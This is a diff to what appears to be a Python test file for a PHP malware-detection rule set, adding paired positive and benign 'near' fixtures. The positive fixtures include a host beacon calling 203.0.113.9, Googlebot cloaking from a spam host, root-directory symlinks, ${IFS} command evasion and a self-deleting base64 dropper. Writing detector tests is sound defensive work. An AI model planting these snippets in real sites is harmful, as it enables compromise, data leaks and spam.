@@ -66,6 +66,47 @@ FILES_LOOP_NEAR = (
     b"  move_uploaded_file($v['tmp_name'], $dir . '/' . bin2hex(random_bytes(8)));\n}\n"
 )
 
+BEACON = (
+    b'<?php @file_get_contents("http://203.0.113.9/i.php?h=" . urlencode($_SERVER["HTTP_HOST"])); ?>\n'
+    b"<html><body>shop</body></html>\n"
+)
+BEACON_NEAR = (
+    b'<?php $r = file_get_contents("http://203.0.113.9/api?h=" . urlencode($_SERVER["HTTP_HOST"]));\n'
+    b"render($r);\n"
+)
+
+CLOAK = (
+    b"<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) {\n"
+    b"  echo fetch_page('http://spam.example.net/p.php?k=' . $_SERVER['HTTP_HOST']);\n  exit;\n}\n"
+)
+CLOAK_NEAR = (
+    b"<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) { $cache = true; }\n"
+    b"$home = 'https://' . $_SERVER['HTTP_HOST'] . '/';\n"
+)
+
+REVIP = (
+    b"<?php\n$t = $_POST['ip'];\n$found = search_bing(\"ip:$t index.php\");\n"
+    b"function search_bing($q) {\n"
+    b"  return file_get_contents('http://www.bing.com/search?q=' . urlencode($q));\n}\n"
+)
+REVIP_NEAR = (
+    b"<?php\n$q = $_GET['q'];\n"
+    b"echo '<a href=\"https://www.bing.com/search?q=' . urlencode($q) . '\">search</a>';\n"
+)
+
+ROOTLINK = b"<?php\nif (isset($_POST['go'])) { symlink('/', 'root.txt'); }\n"
+ROOTLINK_CMD = b"<?php\nsystem('ln -s / ./r00t');\n"
+ROOTLINK_NEAR = b"<?php\nsymlink('/var/www/shared/config.php', __DIR__ . '/config.php');\n"
+
+IFS = b"<?php\n$c = str_replace(' ', '${IFS}', $_REQUEST['c']);\necho file_get_contents($url . '?' . $c);\n"
+IFS_NEAR = b"<?php\n$c = str_replace(' ', '+', $_REQUEST['q']);\necho $c;\n"
+
+SELFDEL = b"<?php\nfile_put_contents($_POST['n'], base64_decode($_POST['d']));\n@unlink(__FILE__);\n"
+SELFDEL_NEAR = (
+    b"<?php\n// one-shot migration, removes itself when done\n"
+    b"file_put_contents(__DIR__ . '/config.lock', date('c'));\nunlink(__FILE__);\n"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_DIRECT, True),
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_VIA_FUNC, True),
@@ -79,4 +120,17 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_StandaloneDbDumper", DUMPER_NEAR, False),
     ("SPAMGEAR_TOOLKIT_FilesLoopClientName", FILES_LOOP, True),
     ("SPAMGEAR_TOOLKIT_FilesLoopClientName", FILES_LOOP_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_HostBeaconDiscarded", BEACON, True),
+    ("SPAMGEAR_TOOLKIT_HostBeaconDiscarded", BEACON_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK, True),
+    ("SPAMGEAR_TOOLKIT_CrawlerCloakRemoteHost", CLOAK_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_ReverseIpLookup", REVIP, True),
+    ("SPAMGEAR_TOOLKIT_ReverseIpLookup", REVIP_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_RootSymlink", ROOTLINK, True),
+    ("SPAMGEAR_TOOLKIT_RootSymlink", ROOTLINK_CMD, True),
+    ("SPAMGEAR_TOOLKIT_RootSymlink", ROOTLINK_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_IfsCommandEvasion", IFS, True),
+    ("SPAMGEAR_TOOLKIT_IfsCommandEvasion", IFS_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_SelfDeletingDropper", SELFDEL, True),
+    ("SPAMGEAR_TOOLKIT_SelfDeletingDropper", SELFDEL_NEAR, False),
 ]
